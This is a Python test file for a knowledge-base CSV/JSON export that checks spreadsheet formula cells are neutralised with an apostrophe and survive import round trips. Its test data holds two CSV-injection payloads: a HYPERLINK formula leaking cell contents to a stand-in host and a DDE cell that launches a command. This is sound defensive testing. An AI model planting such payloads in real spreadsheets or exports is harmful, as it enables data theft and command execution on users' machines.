"""Formula cells in the knowledge-base CSV export, and the round trips back through import."""

from __future__ import annotations

import csv
import io as stdio
import json
from typing import Any

import pytest

from chatbot.csv_cells import FORMULA_PREFIXES
from knowledge import services
from knowledge.io import kb_export, kb_import, parse_kb
from knowledge.io_fields import MAX_ANSWER_CHARS, MAX_QUESTION_CHARS
from tests.factories import make_bot
from tests.knowledge.bad_kb_files import HEADER
from tests.knowledge.test_io import entry_snapshot

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
DDE = "=cmd|' /C calc'!A0"


def exported_cells(bot: Any) -> list[list[str]]:
    return list(csv.reader(stdio.StringIO(kb_export(bot=bot, fmt="csv").decode("utf-8-sig"), newline="")))


def formula_bot() -> Any:
    bot = make_bot(name="source")
    services.entry_upsert(
        bot=bot,
        external_id="-2+3",
        question=HYPERLINK,
        answer=DDE,
        alternatives=["+1", "@SUM(1)"],
        tags=["-x"],
    )
    services.entry_upsert(bot=bot, external_id="quoted", question="'=already quoted", answer="''+two quotes")
    services.entry_upsert(bot=bot, external_id="plain", question="a=b?", answer="- step one\n- step two")
    return bot


def test_the_csv_export_neutralises_every_formula_cell() -> None:
    header, *rows = exported_cells(formula_bot())
    assert header == ["id", "question", "answer", "alternatives", "tags", "active"]
    assert rows == [
        ["'-2+3", "'" + HYPERLINK, "'" + DDE, "'+1|@SUM(1)", "'-x", "true"],
        ["quoted", "''=already quoted", "'''+two quotes", "", "", "true"],
        ["plain", "a=b?", "'- step one\n- step two", "", "", "true"],
    ]
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)


def test_the_json_export_keeps_formulas_as_they_are() -> None:
    [first, *_] = json.loads(kb_export(bot=formula_bot(), fmt="json"))
    assert (first["id"], first["question"], first["answer"]) == ("-2+3", HYPERLINK, DDE)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_neutralised_export_imports_back_as_the_original_text(fmt: str) -> None:
    source, target = formula_bot(), make_bot(name="target")
    kb_import(bot=target, rows=parse_kb(kb_export(bot=source, fmt=fmt), fmt=fmt))
    assert entry_snapshot(target) == entry_snapshot(source)


@pytest.mark.parametrize(
    ("cell", "question"),
    [("'=A1", "=A1"), ("''=A1", "'=A1"), ("'plain", "'plain"), ("'", "'"), ("'@x", "@x")],
)
def test_a_hand_written_apostrophe_before_a_formula_character_is_taken_off(cell: str, question: str) -> None:
    [row] = parse_kb((HEADER + f",{cell},A.,,,\n").encode(), fmt="csv")
    assert row.question == question


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_entries_as_large_as_allowed_make_the_round_trip(fmt: str) -> None:
    source, target = make_bot(name="source"), make_bot(name="target")
    # Starting with "-", the answer's CSV cell carries the neutralising apostrophe too.
    answer = "-" + "a" * (MAX_ANSWER_CHARS - 1)
    alternatives = ["@" + f"{n:02d}" + "b" * (MAX_QUESTION_CHARS - 3) for n in range(24)] + ["c" * 3_976]
    services.entry_upsert(
        bot=source,
        external_id="big",
        question="=" + "q" * (MAX_QUESTION_CHARS - 1),
        answer=answer,
        alternatives=alternatives,
    )
    summary = kb_import(bot=target, rows=parse_kb(kb_export(bot=source, fmt=fmt), fmt=fmt))
    assert summary.created == 1
    assert entry_snapshot(target) == entry_snapshot(source)
    [[*_], [_, _, answer_cell, alternatives_cell, *_]] = exported_cells(source)
    assert (len(answer_cell), len(alternatives_cell)) == (100_001, 100_001)
